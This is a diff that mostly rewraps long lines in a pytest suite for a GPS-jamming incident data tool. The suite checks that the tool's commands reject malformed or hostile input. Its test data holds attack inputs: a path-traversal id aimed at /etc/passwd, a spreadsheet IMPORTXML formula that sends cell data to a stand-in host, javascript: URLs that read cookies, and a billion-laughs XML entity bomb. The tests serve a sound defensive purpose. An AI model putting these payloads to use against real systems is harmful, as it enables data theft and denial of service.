@@ -74,7 +74,11 @@ def test_extra_cell_names_line(data: Path):
     lines = _incident_lines(data)
     lines[2] = lines[2].rstrip("\n") + ",surplus\n"
     _write_raw(data, schema.INCIDENTS_FILE, "".join(lines).encode())
-    _fmt_refuses(data, f"{INC_FILE}:3:23: row has 23 fields but the header has 22 [extra-cell]", "nothing was written")
+    _fmt_refuses(
+        data,
+        f"{INC_FILE}:3:23: row has 23 fields but the header has 22 [extra-cell]",
+        "nothing was written",
+    )
 
 
 def test_missing_cell_names_line(data: Path):
@@ -101,7 +105,11 @@ def test_duplicate_header(data: Path):
 def test_renamed_column_gets_a_hint(data: Path):
     text = (data / schema.INCIDENTS_FILE).read_text("utf-8").replace(",latitude,", ",Latitude ,", 1)
     _write_raw(data, schema.INCIDENTS_FILE, text.encode())
-    _fmt_refuses(data, "did you mean 'latitude'?", f"{INC_FILE}:1:0: {INC.latitude}: column 'latitude' is missing")
+    _fmt_refuses(
+        data,
+        "did you mean 'latitude'?",
+        f"{INC_FILE}:1:0: {INC.latitude}: column 'latitude' is missing",
+    )
 
 
 def test_unknown_extra_column_is_refused(data: Path):
@@ -148,7 +156,9 @@ def test_bidi_override_in_place_name(data: Path):
 
 def test_200k_character_note_is_a_length_error_not_a_crash(data: Path):
     _broken(data, source=(2, {SRC.note: "a" * 200_000}))
-    _fmt_refuses(data, f"{SRC_FILE}:4:{_scol(SRC.note)}: {SRC.note}: text is 200,000 characters long")
+    _fmt_refuses(
+        data, f"{SRC_FILE}:4:{_scol(SRC.note)}: {SRC.note}: text is 200,000 characters long"
+    )
 
 
 def test_empty_sources_file(data: Path):
@@ -178,7 +188,9 @@ def test_old_mac_cr_only_line_endings(data: Path):
 def test_crlf_bom_and_missing_newline_are_fixed_by_fmt(data: Path):
     raw = (data / schema.INCIDENTS_FILE).read_bytes()
     canonical = data_bytes(data)
-    _write_raw(data, schema.INCIDENTS_FILE, b"\xef\xbb\xbf" + raw.replace(b"\n", b"\r\n").rstrip(b"\r\n"))
+    _write_raw(
+        data, schema.INCIDENTS_FILE, b"\xef\xbb\xbf" + raw.replace(b"\n", b"\r\n").rstrip(b"\r\n")
+    )
     check = invoke("fmt", "--check", "--data-dir", str(data))
     text = assert_clean(check)
     assert check.exit_code == 1 and "[not-canonical]" in text
@@ -235,7 +247,10 @@ def test_impossible_calendar_date(data: Path):
 
 def test_ambiguous_slash_date(data: Path):
     _broken(data, source=(0, {SRC.published: "03/04/2024"}))
-    _fmt_refuses(data, f"{SRC_FILE}:2:{_scol(SRC.published)}: published: '03/04/2024' is not a valid ISO date")
+    _fmt_refuses(
+        data,
+        f"{SRC_FILE}:2:{_scol(SRC.published)}: published: '03/04/2024' is not a valid ISO date",
+    )
 
 
 def test_year_9999_does_not_overflow(data: Path):
@@ -255,21 +270,33 @@ def test_timestamp_instead_of_date(data: Path):
 
 def test_end_before_start(data: Path):
     _broken(data, incident=(1, {INC.end_date: "2024-03-01"}))
-    _fmt_refuses(data, f"{INC_FILE}:3:{_col(INC.end_date)}: end_date: end_date 2024-03-01 is before")
+    _fmt_refuses(
+        data, f"{INC_FILE}:3:{_col(INC.end_date)}: end_date: end_date 2024-03-01 is before"
+    )
 
 
 def test_enum_with_case_and_padding_gets_a_hint(data: Path):
     _broken(data, incident=(0, {INC.interference: "JAMMING "}))
-    _fmt_refuses(data, f"{INC_FILE}:2:{_col(INC.interference)}: interference:", "did you mean 'jamming'?")
+    _fmt_refuses(
+        data, f"{INC_FILE}:2:{_col(INC.interference)}: interference:", "did you mean 'jamming'?"
+    )
 
 
 def test_null_island_coordinates(data: Path):
     _broken(data, incident=(2, {INC.latitude: "0", INC.longitude: "0"}))
-    _fmt_refuses(data, f"{INC_FILE}:4:{_col(INC.latitude)}: latitude: coordinates 0,0", "[null-island]")
+    _fmt_refuses(
+        data, f"{INC_FILE}:4:{_col(INC.latitude)}: latitude: coordinates 0,0", "[null-island]"
+    )
 
 
 def test_na_and_none_survive_a_write_as_literal_text(data: Path):
-    _broken(data, incident=(0, {INC.country: "NA", INC.region: "Africa", INC.operator: "None", INC.flight: "null"}))
+    _broken(
+        data,
+        incident=(
+            0,
+            {INC.country: "NA", INC.region: "Africa", INC.operator: "None", INC.flight: "null"},
+        ),
+    )
     before = data_bytes(data)
     outcome = invoke("fmt", "--data-dir", str(data))
     assert outcome.exit_code == 0, assert_clean(outcome)
@@ -283,7 +310,9 @@ def test_na_and_none_survive_a_write_as_literal_text(data: Path):
 
 def test_duplicate_id_names_both_lines(data: Path):
     _broken(data, incident=(2, {INC.id: "2024-03-10-place-0"}))
-    text = _fmt_refuses(data, f"{INC_FILE}:4:1: id: id '2024-03-10-place-0' was already used on line 2")
+    text = _fmt_refuses(
+        data, f"{INC_FILE}:4:1: id: id '2024-03-10-place-0' was already used on line 2"
+    )
     assert "[duplicate-id]" in text
 
 
@@ -291,12 +320,22 @@ def test_row_pasted_twice(data: Path):
     for name in schema.INCIDENTS_FILE, schema.SOURCES_FILE:
         lines = (data / name).read_text("utf-8").splitlines(keepends=True)
         (data / name).write_text("".join(lines + [lines[1]]), "utf-8")
-    _fmt_refuses(data, f"{INC_FILE}:5:1: id:", "[duplicate-id]", f"{SRC_FILE}:5:1:", "[duplicate-source]")
+    _fmt_refuses(
+        data, f"{INC_FILE}:5:1: id:", "[duplicate-id]", f"{SRC_FILE}:5:1:", "[duplicate-source]"
+    )
 
 
 def test_path_traversal_as_id(data: Path):
-    _broken(data, incident=(1, {INC.id: "../../etc/passwd"}), source=(1, {SRC.incident_id: "../../etc/passwd"}))
-    _fmt_refuses(data, f"{INC_FILE}:3:1: id: '../../etc/passwd' is not a valid id", f"{SRC_FILE}:3:1: incident_id:")
+    _broken(
+        data,
+        incident=(1, {INC.id: "../../etc/passwd"}),
+        source=(1, {SRC.incident_id: "../../etc/passwd"}),
+    )
+    _fmt_refuses(
+        data,
+        f"{INC_FILE}:3:1: id: '../../etc/passwd' is not a valid id",
+        f"{SRC_FILE}:3:1: incident_id:",
+    )
 
 
 def test_id_with_arabic_indic_digits(data: Path):
@@ -334,11 +373,13 @@ FORMULAS = {
 def test_formula_in_text_cell(data: Path, case: str):
     column, value = FORMULAS[case]
     _broken(data, incident=(1, {column: value}))
-    _fmt_refuses(data, f"{INC_FILE}:3:{_col(column)}: {column}:", "which spreadsheets run as a formula")
+    _fmt_refuses(
+        data, f"{INC_FILE}:3:{_col(column)}: {column}:", "which spreadsheets run as a formula"
+    )
 
 
 def test_formula_in_source_publisher(data: Path):
-    _broken(data, source=(0, {SRC.publisher: "=IMPORTXML(CONCAT(\"http://x/?\",A1),\"//a\")"}))
+    _broken(data, source=(0, {SRC.publisher: '=IMPORTXML(CONCAT("http://x/?",A1),"//a")'}))
     _fmt_refuses(data, f"{SRC_FILE}:2:{_scol(SRC.publisher)}: publisher:", "[formula-injection]")
 
 
@@ -453,7 +494,9 @@ def test_disk_full_during_fmt_is_a_clear_error(data: Path, monkeypatch):
     import os
 
     lines = _incident_lines(data)
-    _write_raw(data, schema.INCIDENTS_FILE, "".join([lines[0], lines[3], lines[2], lines[1]]).encode())
+    _write_raw(
+        data, schema.INCIDENTS_FILE, "".join([lines[0], lines[3], lines[2], lines[1]]).encode()
+    )
     before = data_bytes(data)
 
     def full(fd):
@@ -477,7 +520,13 @@ On 2 June 2024 a Ryanair Boeing 737 approaching Vilnius Airport lost GPS because
 """
 
 
-def _report(tmp_path: Path, name: str = "report.txt", *, url: str = "https://news.example.org/a", extra: str = "") -> Path:
+def _report(
+    tmp_path: Path,
+    name: str = "report.txt",
+    *,
+    url: str = "https://news.example.org/a",
+    extra: str = "",
+) -> Path:
     path = tmp_path / name
     path.write_text(REPORT.format(url=url, extra=extra), "utf-8")
     return path
@@ -485,7 +534,9 @@ def _report(tmp_path: Path, name: str = "report.txt", *, url: str = "https://new
 
 def _ingest_refuses(data: Path, *args: str, expected: tuple[str, ...]) -> str:
     before = data_bytes(data)
-    return assert_refused(invoke("ingest", *args, "--apply", "--data-dir", str(data)), data, before, *expected)
+    return assert_refused(
+        invoke("ingest", *args, "--apply", "--data-dir", str(data)), data, before, *expected
+    )
 
 
 def test_ingest_binary_file(data: Path, tmp_path: Path):
@@ -514,12 +565,21 @@ def test_ingest_oversized_stdin(data: Path):
     from tracker.ingest.readers import MAX_INPUT_BYTES
 
     before = data_bytes(data)
-    outcome = invoke("ingest", "-", "--apply", "--data-dir", str(data), input=b"GPS jamming " * (MAX_INPUT_BYTES // 12 + 10))
+    outcome = invoke(
+        "ingest",
+        "-",
+        "--apply",
+        "--data-dir",
+        str(data),
+        input=b"GPS jamming " * (MAX_INPUT_BYTES // 12 + 10),
+    )
     assert_refused(outcome, data, before, "<stdin>: larger than 5 MB")
 
 
 def test_ingest_billion_laughs_feed(data: Path, tmp_path: Path):
-    lol = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)]
+    lol = ['<!ENTITY lol0 "lol">'] + [
+        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
+    ]
     feed = tmp_path / "feed.rss"
     feed.write_text(
         '<?xml version="1.0"?>\n<!DOCTYPE rss [\n' + "\n".join(lol) + "\n]>\n"
@@ -544,7 +604,9 @@ def test_ingest_external_entity_feed(data: Path, tmp_path: Path):
 
 def test_ingest_javascript_url_in_report(data: Path, tmp_path: Path):
     report = _report(tmp_path, url="javascript:alert(document.cookie)")
-    _ingest_refuses(data, str(report), expected=("needs an http(s) source URL", "nothing was written"))
+    _ingest_refuses(
+        data, str(report), expected=("needs an http(s) source URL", "nothing was written")
+    )
 
 
 def test_ingest_javascript_url_option(data: Path, tmp_path: Path):
@@ -556,7 +618,9 @@ def test_ingest_javascript_url_option(data: Path, tmp_path: Path):
 
 
 def test_ingest_missing_path(data: Path, tmp_path: Path):
-    _ingest_refuses(data, str(tmp_path / "nope.txt"), expected=("nope.txt: no such file or folder",))
+    _ingest_refuses(
+        data, str(tmp_path / "nope.txt"), expected=("nope.txt: no such file or folder",)
+    )
 
 
 def test_ingest_folder_without_reports(data: Path, tmp_path: Path):
@@ -584,7 +648,11 @@ def test_ingest_hostile_text_writes_only_clean_cells(data: Path, tmp_path: Path)
 
 def test_ingest_windows_1252_report_is_read_with_a_note(data: Path, tmp_path: Path):
     report = tmp_path / "cp1252.txt"
-    report.write_bytes(REPORT.format(url="https://news.example.org/b", extra="Caf\xe9 cr\xe8me \u2013 r\xe9sum\xe9.").encode("cp1252"))
+    report.write_bytes(
+        REPORT.format(
+            url="https://news.example.org/b", extra="Caf\xe9 cr\xe8me \u2013 r\xe9sum\xe9."
+        ).encode("cp1252")
+    )
     outcome = invoke("ingest", str(report), "--data-dir", str(data))
     text = assert_clean(outcome)
     assert outcome.exit_code == 0, text
@@ -595,13 +663,18 @@ def test_ingest_windows_1252_report_is_read_with_a_note(data: Path, tmp_path: Pa
 
 
 def test_real_process_bad_data_exit_1_without_traceback(data: Path):
-    _broken(data, incident=(1, {INC.latitude: "95.1"}), source=(2, {SRC.url: "javascript:alert(1)"}))
+    _broken(
+        data, incident=(1, {INC.latitude: "95.1"}), source=(2, {SRC.url: "javascript:alert(1)"})
+    )
     before = data_bytes(data)
     result = run_cli("fmt", "--data-dir", "data", cwd=data.parent)
     stderr = result.stderr.decode()
     assert result.returncode == 1
     assert "Traceback" not in stderr + result.stdout.decode()
     assert f"{INC_FILE}:3:{_col(INC.latitude)}: latitude: 95.1 is outside [-90, 90]" in stderr
-    assert f"{SRC_FILE}:4:{_scol(SRC.url)}: url: 'javascript:alert(1)': only http and https links" in stderr
+    assert (
+        f"{SRC_FILE}:4:{_scol(SRC.url)}: url: 'javascript:alert(1)': only http and https links"
+        in stderr
+    )
     assert stderr.rstrip().endswith("Error: 2 errors; nothing was written")
     assert data_bytes(data) == before
